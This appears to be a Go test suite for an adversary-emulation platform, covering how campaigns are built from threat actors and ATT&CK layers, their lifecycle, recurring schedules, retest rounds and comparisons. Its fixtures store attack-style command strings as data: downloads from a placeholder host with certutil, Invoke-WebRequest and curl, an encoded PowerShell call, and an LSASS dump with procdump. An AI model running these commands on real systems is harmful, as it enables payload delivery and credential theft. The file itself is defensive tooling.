package campaigns_test

import (
	"bytes"
	"context"
	"mime/multipart"
	"net/http"
	"strings"
	"testing"
	"time"

	c "github.com/aegis-sec/aegis/collections"
	"github.com/aegis-sec/aegis/importers/registry"
	"github.com/aegis-sec/aegis/internal/campaigns"
	"github.com/aegis-sec/aegis/internal/coverage"
	"github.com/aegis-sec/aegis/internal/testutil"
	"github.com/pocketbase/dbx"
	"github.com/pocketbase/pocketbase/core"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestFromActorOneTestPerTechniqueOnPlatform(t *testing.T) {
	e := newEnv(t)
	win := e.technique("T1059.001", []string{"Windows"}, nil)
	lin := e.technique("T1059.004", []string{"Linux", "macOS"}, nil)
	old := e.technique("T1086", []string{"Windows"}, map[string]any{"revoked": true})
	both := e.technique("T1105", []string{"Windows", "Linux"}, nil)
	other := e.technique("T1110", []string{"Windows"}, nil) // not used by the actor
	_ = other
	actor := e.Save(c.ThreatActors, map[string]any{"stix_id": "intrusion-set--1", "attack_id": "G9999", "name": "Cozy Test", "source": "attack"})
	for _, tech := range []string{win.Id, lin.Id, old.Id, both.Id} {
		e.Save(c.ActorTechniques, map[string]any{"actor": actor.Id, "technique": tech})
	}
	tpl := func(source, id, name string, tech string, platforms []string, cmd string) string {
		return e.Save(c.TestTemplates, map[string]any{"source": source, "source_id": id, "technique": tech, "name": name,
			"platforms": platforms, "executor": map[string]any{"name": "powershell", "command": cmd, "cleanup": "Remove-Item x"}}).Id
	}
	tpl("caldera", "c-1", "Download with certutil", both.Id, []string{"windows"}, "certutil -urlcache -f http://x/a a")
	best := tpl("atomic", "a-2", "Invoke-WebRequest download", both.Id, []string{"windows"}, "iwr http://x/a -OutFile a")
	tpl("atomic", "a-1", "curl download", both.Id, []string{"linux"}, "curl -o a http://x/a")
	winTpl := tpl("atomic", "a-3", "Encoded command", win.Id, []string{"windows"}, "powershell -enc AAAA")

	res := e.Do("POST", "/api/aegis/campaigns/from-actor", c.RoleRedLead, map[string]any{"actor": "g9999", "platforms": []string{"windows"}})
	require.Equal(t, 200, res.Status, "from-actor: %d %s", res.Status, res.Body)
	var g generated
	res.JSON(t, &g)
	assert.Equal(t, actor.Id, g.Campaign.Threat_actor, "campaign: %+v", g.Campaign)
	assert.Equal(t, "planned", g.Campaign.Status, "campaign: %+v", g.Campaign)
	assert.Equal(t, 1, g.Campaign.Round, "campaign: %+v", g.Campaign)
	assert.Equal(t, "Cozy Test emulation", g.Campaign.Name, "campaign: %+v", g.Campaign)
	got := map[string]string{}
	for _, tc := range g.Tests {
		assert.Equal(t, c.StateDraft, tc.State, "test %+v", tc)
		assert.True(t, tc.Revealed, "test %+v", tc)
		assert.Equal(t, "windows", tc.Platform, "test %+v", tc)
		got[tc.Technique] = tc.Template
		assert.False(t, tc.Technique == both.Id && !strings.Contains(tc.Procedure, "iwr http://x/a"), "procedure not from the template: %q", tc.Procedure)
	}
	assert.False(t, len(got) != 2 || got[both.Id] != best || got[win.Id] != winTpl || len(g.Tests) != 2, "tests by technique: %v (want %s→%s, %s→%s)", got, both.Id, best, win.Id, winTpl)
	assert.Len(t, g.Skipped, 2, "skipped: %v", g.Skipped)
	// Without platforms every technique it uses (but the revoked one) gets a test.
	res = e.Do("POST", "/api/aegis/campaigns/from-actor", c.RoleAdmin, map[string]any{"actor": actor.Id, "name": "all", "blind": true})
	res.JSON(t, &g)
	assert.Equal(t, 200, res.Status, "all platforms: %s", res.Body)
	assert.True(t, g.Campaign.Blind, "all platforms: the campaign is blind: %s", res.Body)
	if assert.Len(t, g.Tests, 3, "all platforms: %s", res.Body) {
		assert.False(t, g.Tests[0].Revealed, "all platforms: the tests of a blind campaign are not revealed")
	}
	for _, tc := range []struct {
		name string
		role c.Role
		body map[string]any
		want int
	}{
		{"an operator may not plan from an actor", c.RoleRedOperator, map[string]any{"actor": "G9999"}, 403},
		{"a blue lead may not plan from an actor", c.RoleBlueLead, map[string]any{"actor": "G9999"}, 403},
		{"an unknown actor is not found", c.RoleRedLead, map[string]any{"actor": "G0000"}, 404},
		{"no actor is a bad request", c.RoleRedLead, map[string]any{}, 400},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := e.Do("POST", "/api/aegis/campaigns/from-actor", tc.role, tc.body)
			assert.Equal(t, tc.want, res.Status, "%s %v: %s", tc.role, tc.body, res.Body)
		})
	}
}

func TestFromLayer(t *testing.T) {
	e := newEnv(t)
	a := e.technique("T1003", []string{"Windows"}, nil)
	b := e.technique("T1003.001", []string{"Windows"}, nil)
	e.technique("T1021", []string{"Windows"}, nil)
	layer := `{"name":"Q3 priorities","domain":"enterprise-attack","versions":{"layer":"4.5","navigator":"5.1.0","attack":"18"},
	 "techniques":[{"techniqueID":"T1003","tactic":"credential-access","score":3},
	  {"techniqueID":"T1003.001","tactic":"credential-access","color":"#ff6666"},
	  {"techniqueID":"T1003","tactic":"defense-evasion","score":1},
	  {"techniqueID":"T1021","tactic":"lateral-movement","score":5,"enabled":false},
	  {"techniqueID":"T1098","tactic":"persistence","score":2},
	  {"techniqueID":"T1070","tactic":"defense-evasion"}]}`
	post := func(role c.Role, content string, fields map[string]string) testutil.Response {
		var buf bytes.Buffer
		mw := multipart.NewWriter(&buf)
		for k, v := range fields {
			mw.WriteField(k, v)
		}
		fw, _ := mw.CreateFormFile("file", "layer.json")
		fw.Write([]byte(content))
		mw.Close()
		req, _ := http.NewRequest("POST", e.URL+"/api/aegis/campaigns/from-layer", &buf)
		req.Header.Set("Content-Type", mw.FormDataContentType())
		req.Header.Set("Authorization", e.Users[role].Token)
		res, err := http.DefaultClient.Do(req)
		require.NoError(t, err, "post the layer")
		defer res.Body.Close()
		var out bytes.Buffer
		out.ReadFrom(res.Body)
		return testutil.Response{Status: res.StatusCode, Body: out.Bytes()}
	}
	res := post(c.RoleRedLead, layer, map[string]string{"platforms": "windows"})
	require.Equal(t, 200, res.Status, "from-layer: %d %s", res.Status, res.Body)
	var g generated
	res.JSON(t, &g)
	techs := map[string]bool{}
	for _, tc := range g.Tests {
		techs[tc.Technique] = true
	}
	assert.Equal(t, "Q3 priorities", g.Campaign.Name, "the campaign is named after the layer")
	assert.Len(t, g.Tests, 2, "one test per known technique: %s", res.Body)
	assert.True(t, techs[a.Id], "a test for %s", a.Id)
	assert.True(t, techs[b.Id], "a test for %s", b.Id)
	if assert.Len(t, g.Skipped, 1, "skipped: %v", g.Skipped) {
		assert.True(t, strings.HasPrefix(g.Skipped[0], "T1098"), "the unknown technique is skipped: %v", g.Skipped)
	}
	// T1098 waits for the catalogue: when an import brings it, the planned
	// campaign gets its test (in the import's transaction).
	n, _ := e.App.CountRecords(c.PendingAttackRefs, dbx.HashExp{"kind": c.RefCampaignTest, "owner": g.Campaign.Id})
	require.Equal(t, int64(1), n, "pending planned tests %d, want 1 (T1098)", n)
	late := e.technique("T1098", []string{"Windows"}, nil)
	var resolved registry.Resolved
	require.NoError(t, e.App.RunInTransaction(func(tx core.App) error {
		var err error
		resolved, err = registry.ResolveReferences(tx)
		return err
	}), "resolve the pending references")
	require.Equal(t, 1, resolved.CampaignTests, "resolved %+v", resolved)
	n, _ = e.App.CountRecords(c.Tests, dbx.HashExp{"campaign": g.Campaign.Id, "technique": late.Id, "platform": "windows", "state": c.StateDraft})
	require.Equal(t, int64(1), n, "no draft test for T1098 in the planned campaign")
	n, _ = e.App.CountRecords(c.PendingAttackRefs)
	require.Equal(t, int64(0), n, "%d pending references left", n)
	for name, bad := range map[string]string{"not json": "{", "nothing picked": `{"name":"x","domain":"enterprise-attack","techniques":[{"techniqueID":"T1003"}]}`} {
		t.Run(name, func(t *testing.T) {
			res := post(c.RoleRedLead, bad, nil)
			assert.Equal(t, 400, res.Status, "%s: %d %s", name, res.Status, res.Body)
		})
	}
	assert.Equal(t, 403, post(c.RoleBlueLead, layer, nil).Status, "blue lead")
}

func TestLifecycleAndProgress(t *testing.T) {
	e := newEnv(t)
	res := e.Do("POST", "/api/collections/campaigns/records", c.RoleRedLead, map[string]any{"name": "Q4", "status": "archived", "round": 7})
	var camp struct {
		Id, Status string
		Round      int
	}
	res.JSON(t, &camp)
	require.Equal(t, 200, res.Status, "create: %d %s", res.Status, res.Body)
	require.Equal(t, "planned", camp.Status, "create: %d %s", res.Status, res.Body)
	require.Equal(t, 1, camp.Round, "create: %d %s", res.Status, res.Body)
	moves := []struct {
		to   string
		want int
	}{{"completed", 400}, {"active", 200}, {"planned", 400}, {"completed", 200}, {"active", 200}, {"completed", 200},
		{"archived", 200}, {"active", 400}}
	for _, m := range moves {
		res := e.Do("PATCH", "/api/collections/campaigns/records/"+camp.Id, c.RoleRedLead, map[string]any{"status": m.to})
		assert.Equal(t, m.want, res.Status, "→ %s: %d, want %d: %s", m.to, res.Status, m.want, res.Body)
	}
	assert.Equal(t, "archived", e.Get(c.Campaigns, camp.Id).GetString("status"), "lifecycle did not end archived")
	for _, tc := range []struct{ from, to string }{{"planned", "active"}, {"active", "completed"}, {"completed", "archived"}} {
		t.Run(tc.from+" to "+tc.to, func(t *testing.T) {
			assert.NoError(t, campaigns.CheckStatus(tc.from, tc.to), "%s → %s is allowed", tc.from, tc.to)
		})
	}

	// Progress counts tests by state and outcome.
	live := e.Save(c.Campaigns, map[string]any{"name": "live"})
	tech := e.technique("T1082", []string{"Linux"}, nil)
	var ids []string
	for i := 0; i < 4; i++ {
		ids = append(ids, e.Save(c.Tests, map[string]any{"name": "t", "technique": tech.Id, "campaign": live.Id}).Id)
	}
	e.walk(ids[0], "blocked", "technique")
	e.walk(ids[1], "not_blocked", "none")
	e.MustTransition(ids[2], c.RoleRedLead, "cancel", map[string]any{"reason": "out of scope"})
	res = e.Do("GET", "/api/aegis/campaigns/"+live.Id+"/progress", c.RoleViewer, nil)
	var p campaigns.Progress
	res.JSON(t, &p)
	assert.False(t, res.Status != 200 || p.Total != 4 || p.Done != 2 || p.ByState["validated"] != 2 || p.ByState["cancelled"] != 1 ||
		p.ByState["draft"] != 1 || p.ByDetection["none"] != 1 || p.ByPrevention["blocked"] != 1, "progress: %s", res.Body)
	assert.Equal(t, 1, p.FindingsOpen, "progress: %s", res.Body)
	assert.GreaterOrEqual(t, p.Percent, float64(66), "progress: %s", res.Body)
	assert.LessOrEqual(t, p.Percent, float64(67), "progress: %s", res.Body)
	assert.Equal(t, 404, e.Do("GET", "/api/aegis/campaigns/nope/progress", c.RoleViewer, nil).Status, "unknown campaign")
}

func TestRecurringCampaignSpawnsOnSchedule(t *testing.T) {
	e := newEnv(t)
	tech := e.technique("T1566", []string{"Windows"}, nil)
	assert.Equal(t, 400, e.Do("POST", "/api/collections/campaigns/records", c.RoleRedLead, map[string]any{"name": "bad", "recurrence": "every tuesday"}).Status, "bad cron spec")
	res := e.Do("POST", "/api/collections/campaigns/records", c.RoleRedLead, map[string]any{"name": "Monthly phishing", "recurrence": "0 6 1 * *"})
	var created struct{ Id, Next_run_at string }
	res.JSON(t, &created)
	require.Equal(t, 200, res.Status, "create recurring: %d %s", res.Status, res.Body)
	require.NotEmpty(t, created.Next_run_at, "create recurring: %d %s", res.Status, res.Body)
	rec := e.Get(c.Campaigns, created.Id)
	for _, name := range []string{"attachment", "link"} {
		e.Save(c.Tests, map[string]any{"name": name, "technique": tech.Id, "campaign": rec.Id, "procedure": "send " + name})
	}
	// Drive the clock: the next run is 2030-01-01 06:00 UTC.
	due := time.Date(2030, 1, 1, 6, 0, 0, 0, time.UTC)
	rec.Set("next_run_at", due)
	require.NoError(t, e.App.Save(rec), "save the recurring campaign")
	ctx := context.Background()
	st, err := campaigns.SpawnDue(ctx, e.App, due.Add(-time.Minute))
	require.NoError(t, err, "before due: %+v", st)
	require.Equal(t, 0, st.Spawned, "before due: %+v %v", st, err)
	st, err = campaigns.SpawnDue(ctx, e.App, due.Add(time.Hour))
	require.NoError(t, err, "when due: %+v", st)
	require.Equal(t, 1, st.Spawned, "when due: %+v %v", st, err)
	require.Equal(t, 2, st.Tests, "when due: %+v %v", st, err)
	inst, err := e.App.FindFirstRecordByFilter(c.Campaigns, "parent = {:p}", map[string]any{"p": rec.Id})
	require.NoError(t, err, "find the spawned instance")
	assert.Equal(t, "planned", inst.GetString("status"), "instance: %v", inst.FieldsData())
	assert.Equal(t, 1, inst.GetInt("round"), "instance: %v", inst.FieldsData())
	assert.Empty(t, inst.GetString("recurrence"), "instance: %v", inst.FieldsData())
	assert.Equal(t, "Monthly phishing — 2030-01-01", inst.GetString("name"), "instance: %v", inst.FieldsData())
	drafts, _ := e.App.FindAllRecords(c.Tests, nil)
	n := 0
	for _, d := range drafts {
		if d.GetString("campaign") == inst.Id {
			n++
			assert.Equal(t, c.StateDraft, d.GetString("state"), "spawned test: %v", d.FieldsData())
			assert.Equal(t, 0, d.GetInt("revision"), "spawned test: %v", d.FieldsData())
			assert.True(t, strings.HasPrefix(d.GetString("procedure"), "send "), "spawned test: %v", d.FieldsData())
		}
	}
	assert.Equal(t, 2, n, "instance has %d tests", n)
	next := e.Get(c.Campaigns, rec.Id).GetDateTime("next_run_at").Time()
	assert.True(t, next.Equal(time.Date(2030, 2, 1, 6, 0, 0, 0, time.UTC)), "next_run_at = %v", next)
	// Running again at the same time spawns nothing; at the next date, one more.
	spawned := func(at time.Time) int {
		st, _ := campaigns.SpawnDue(ctx, e.App, at)
		return st.Spawned
	}
	assert.Equal(t, 0, spawned(due.Add(2*time.Hour)), "a second run at the same time spawns nothing")
	assert.Equal(t, 1, spawned(next.Add(time.Second)), "the next month spawns one campaign")
	// Changing the spec through the API reschedules from now.
	res = e.Do("PATCH", "/api/collections/campaigns/records/"+rec.Id, c.RoleRedLead, map[string]any{"recurrence": "0 6 * * *"})
	require.Equal(t, 200, res.Status, "reschedule: %d %s", res.Status, res.Body)
	got := e.Get(c.Campaigns, rec.Id).GetDateTime("next_run_at").Time()
	assert.Equal(t, 6, got.Hour(), "rescheduled next_run_at %v", got)
	assert.True(t, got.After(time.Now()), "rescheduled next_run_at %v", got)
	assert.False(t, got.After(time.Now().Add(25*time.Hour)), "rescheduled next_run_at %v", got)
	// Archived campaigns stop recurring.
	arch := e.Get(c.Campaigns, rec.Id)
	arch.Set("status", "archived")
	e.App.Save(arch)
	assert.Equal(t, 0, spawned(next.AddDate(1, 0, 0)), "an archived campaign spawns nothing")
}

func TestRetestRoundsAndCompare(t *testing.T) {
	e := newEnv(t)
	t1 := e.technique("T1059.001", []string{"Windows"}, nil)
	t2 := e.technique("T1003.001", []string{"Windows"}, nil)
	camp := e.Save(c.Campaigns, map[string]any{"name": "APT sim"})
	a := e.Save(c.Tests, map[string]any{"name": "ps", "technique": t1.Id, "campaign": camp.Id, "procedure": "powershell -enc"}).Id
	b := e.Save(c.Tests, map[string]any{"name": "lsass", "technique": t2.Id, "campaign": camp.Id, "procedure": "procdump lsass"}).Id
	e.walk(a, "not_blocked", "none")
	e.walk(b, "blocked", "general")
	finding, err := e.App.FindFirstRecordByFilter(c.Findings, "test = {:t}", map[string]any{"t": a})
	require.NoError(t, err, "no finding for the miss")
	assert.Equal(t, 403, e.Do("POST", "/api/aegis/campaigns/"+camp.Id+"/retest", c.RoleRedOperator, nil).Status, "operator retest")
	res := e.Do("POST", "/api/aegis/campaigns/"+camp.Id+"/retest", c.RoleRedLead, nil)
	var g generated
	res.JSON(t, &g)
	require.Equal(t, 200, res.Status, "round 2: %d %s", res.Status, res.Body)
	require.Equal(t, 2, g.Campaign.Round, "round 2: %d %s", res.Status, res.Body)
	require.Equal(t, camp.Id, g.Campaign.Parent, "round 2: %d %s", res.Status, res.Body)
	require.Len(t, g.Tests, 2, "round 2: %d %s", res.Status, res.Body)
	require.Equal(t, "APT sim (round 2)", g.Campaign.Name, "round 2: %d %s", res.Status, res.Body)
	byTech := map[string]string{}
	for _, tc := range g.Tests {
		byTech[tc.Technique] = tc.Id
		assert.Equal(t, c.StateDraft, tc.State, "round 2 test %+v", tc)
		assert.Contains(t, []string{a, b}, tc.Retest_of, "a round 2 test retests a round 1 test: %+v", tc)
		assert.NotEmpty(t, tc.Procedure, "round 2 test %+v", tc)
	}
	e.walk(byTech[t1.Id], "not_blocked", "technique")
	e.walk(byTech[t2.Id], "not_blocked", "telemetry")
	f := e.Get(c.Findings, finding.Id)
	assert.False(t, f.GetString("status") != "resolved" || f.GetString("resolved_by_test") != byTech[t1.Id], "round 2 did not resolve the finding: %v", f.FieldsData())
	// The round comparison is the coverage engine's round delta: round 2
	// detects the PowerShell test (better) and no longer blocks LSASS (worse).
	res = e.Do("GET", "/api/aegis/campaigns/"+camp.Id+"/compare?round=1&with=2", c.RoleViewer, nil)
	var cmp coverage.Comparison
	res.JSON(t, &cmp)
	changes := map[string]string{}
	for _, d := range cmp.Improved {
		changes[d.AttackID] = "improved"
	}
	for _, d := range cmp.Degraded {
		changes[d.AttackID] = "regressed"
	}
	assert.False(t, res.Status != 200 || changes["T1059.001"] != "improved" || changes["T1003.001"] != "regressed", "compare: %d %s", res.Status, res.Body)
	assert.Len(t, changes, 2, "compare: %d %s", res.Status, res.Body)
	// The same delta as /compare/rounds, and the default pair from round 2
	// is rounds 1 and 2.
	for _, url := range []string{"/api/aegis/compare/rounds?campaign=" + camp.Id + "&a=1&b=2", "/api/aegis/campaigns/" + g.Campaign.Id + "/compare"} {
		other := e.Do("GET", url, c.RoleViewer, nil)
		assert.Equal(t, 200, other.Status, "%s: %d, differs from the campaign compare: %s", url, other.Status, other.Body)
		assert.Equal(t, string(res.Body), string(other.Body), "%s: %d, differs from the campaign compare: %s", url, other.Status, other.Body)
	}
	// Round 3 from round 2 joins the same family.
	res = e.Do("POST", "/api/aegis/campaigns/"+g.Campaign.Id+"/retest", c.RoleRedLead, nil)
	var g3 generated
	res.JSON(t, &g3)
	assert.Equal(t, 200, res.Status, "round 3: %s", res.Body)
	assert.Equal(t, 3, g3.Campaign.Round, "round 3: %s", res.Body)
	assert.Equal(t, camp.Id, g3.Campaign.Parent, "round 3: %s", res.Body)
	assert.Equal(t, 404, e.Do("GET", "/api/aegis/campaigns/"+camp.Id+"/compare?round=1&with=9", c.RoleViewer, nil).Status, "missing round")
	assert.Equal(t, 400, e.Do("GET", "/api/aegis/campaigns/"+camp.Id+"/compare?round=x", c.RoleViewer, nil).Status, "bad round")
}

func TestRevealAll(t *testing.T) {
	e := newEnv(t)
	tech := e.technique("T1078", []string{"Windows"}, nil)
	camp := e.Save(c.Campaigns, map[string]any{"name": "blind", "blind": true})
	for i := 0; i < 3; i++ {
		e.Save(c.Tests, map[string]any{"name": "t", "technique": tech.Id, "campaign": camp.Id})
	}
	assert.Equal(t, 403, e.Do("POST", "/api/aegis/campaigns/"+camp.Id+"/reveal", c.RoleBlueLead, nil).Status, "blue reveal")
	res := e.Do("POST", "/api/aegis/campaigns/"+camp.Id+"/reveal", c.RoleRedLead, nil)
	require.Equal(t, 200, res.Status, "reveal: %d %s", res.Status, res.Body)
	require.Contains(t, string(res.Body), `"revealed":3`, "reveal: %d %s", res.Status, res.Body)
	n, _ := e.App.CountRecords(c.Tests)
	require.Equal(t, int64(3), n, "the campaign still has its 3 tests")
	res = e.Do("GET", "/api/collections/tests/records", c.RoleBlueAnalyst, nil)
	assert.Contains(t, string(res.Body), `"totalItems":3`, "blue after reveal: %s", res.Body)
}
